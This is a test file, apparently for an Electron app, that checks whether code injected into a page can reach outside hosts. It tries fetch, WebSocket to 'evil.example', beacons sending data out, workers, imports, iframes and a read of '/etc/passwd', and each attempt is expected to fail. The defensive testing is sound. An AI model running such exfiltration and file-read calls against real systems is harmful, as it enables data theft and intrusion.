import { expect, test } from 'vitest';
import { leftToStandIn } from '../driver/app.ts';
import { OUTSIDE, attackedApp, settle } from './attacked-app.ts';

const { app, attempt } = attackedApp();

const loads = (tag: string, attribute: string, more = ''): string => `new Promise((done) => {
  const e = document.createElement('${tag}'); ${more}
  e.onload = () => done('LOADED'); e.onerror = () => done('refused'); setTimeout(() => done('refused'), 400);
  e.${attribute} = '${OUTSIDE}/${tag}'; document.body.append(e) })`;

const WAYS: readonly (readonly [string, string])[] = [
  ['fetch', `fetch('${OUTSIDE}/x').then(() => 'LOADED')`],
  ['fetch without CORS', `fetch('${OUTSIDE}/x', { mode: 'no-cors' }).then(() => 'LOADED')`],
  ['fetch of an address', `fetch('https://93.184.216.34/', { mode: 'no-cors' }).then(() => 'LOADED')`],
  ['fetch of this machine', `fetch('http://127.0.0.1:9/', { mode: 'no-cors' }).then(() => 'LOADED')`],
  ['fetch of a file', `fetch('file:///etc/passwd').then(() => 'LOADED')`],
  [
    'XMLHttpRequest',
    `new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', '${OUTSIDE}/x'); x.onload = () => done('LOADED'); x.onerror = () => done('refused'); x.send() })`,
  ],
  [
    'WebSocket',
    `new Promise((done) => { const s = new WebSocket('wss://evil.example/'); s.onopen = () => done('LOADED'); s.onerror = () => done('refused') })`,
  ],
  [
    'EventSource',
    `new Promise((done) => { const s = new EventSource('${OUTSIDE}/e'); s.onopen = () => done('LOADED'); s.onerror = () => done('refused') })`,
  ],
  ['a picture', loads('img', 'src')],
  ['a script', loads('script', 'src')],
  ['a module', loads('script', 'src', `e.type = 'module';`)],
  ['a style sheet', loads('link', 'href', `e.rel = 'stylesheet';`)],
  ['a prefetch', loads('link', 'href', `e.rel = 'prefetch';`)],
  ['a preload', loads('link', 'href', `e.rel = 'preload'; e.as = 'image';`)],
  ['a video', loads('video', 'src')],
  ['an object', loads('object', 'data')],
  ['a font', `new FontFace('f', 'url(${OUTSIDE}/f.woff2)').load().then(() => 'LOADED')`],
  [
    'a worker',
    `new Promise((done) => { const w = new Worker('${OUTSIDE}/w.js'); w.onmessage = () => done('LOADED'); w.onerror = () => done('refused') })`,
  ],
  ['a dynamic import', `import('${OUTSIDE}/m.js').then(() => 'LOADED')`],
];

test.each(WAYS)('%s brings nothing from outside', async (_name, code) => {
  expect(await attempt(code)).not.toBe('LOADED');
});

test('a beacon leaves nothing', async () => {
  await attempt(`navigator.sendBeacon('${OUTSIDE}/beacon', 'names')`);
  await settle();
  expect(leftToStandIn(app())).toEqual([]);
});

test('a frame from outside shows nothing', async () => {
  await attempt(
    `new Promise((done) => { const f = document.createElement('iframe'); f.src = '${OUTSIDE}/frame'; f.onload = done; document.body.append(f); setTimeout(done, 400) })`,
  );
  await settle();
  const frames = app()
    .page.frames()
    .map((frame) => frame.url());
  expect(frames.filter((url) => url.startsWith(OUTSIDE))).toEqual([]);
});

/** The policy is the first wall; the second must stand alone. */
const PAGE_WITHOUT_POLICY = `Promise.all([
  fetch('${OUTSIDE}/a', { mode: 'no-cors' }),
  fetch('https://93.184.216.34/b', { mode: 'no-cors' }),
  new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail(new Error('refused')); i.src = '${OUTSIDE}/c.png' }),
].map((way) => way.then(() => 'REACHED', () => 'refused')))`;

test("without the page's policy every request outside the app's schemes is cancelled all the same", async () => {
  const reached = await app().evaluateMain(async ({ BrowserWindow, session }, code) => {
    const ours = session.fromPartition('desk');
    ours.protocol.unhandle('app');
    ours.protocol.handle('app', () => new Response('<p>no policy', { headers: { 'content-type': 'text/html' } }));
    const window = new BrowserWindow({ show: false, webPreferences: { session: ours, sandbox: true } });
    await window.loadURL('app://desk/without-policy.html');
    const answers: unknown = await window.webContents.executeJavaScript(code);
    window.destroy();
    return answers;
  }, PAGE_WITHOUT_POLICY);
  expect(reached).toEqual(['refused', 'refused', 'refused']);
  const stopped = app().standIn?.outside.map(({ url }) => url);
  if (stopped !== undefined) expect(stopped).toEqual(expect.arrayContaining([`${OUTSIDE}/a`, `${OUTSIDE}/c.png`]));
});

test('nothing of it was left to the stand-in: the app itself stopped all', () => {
  expect(leftToStandIn(app())).toEqual([]);
});
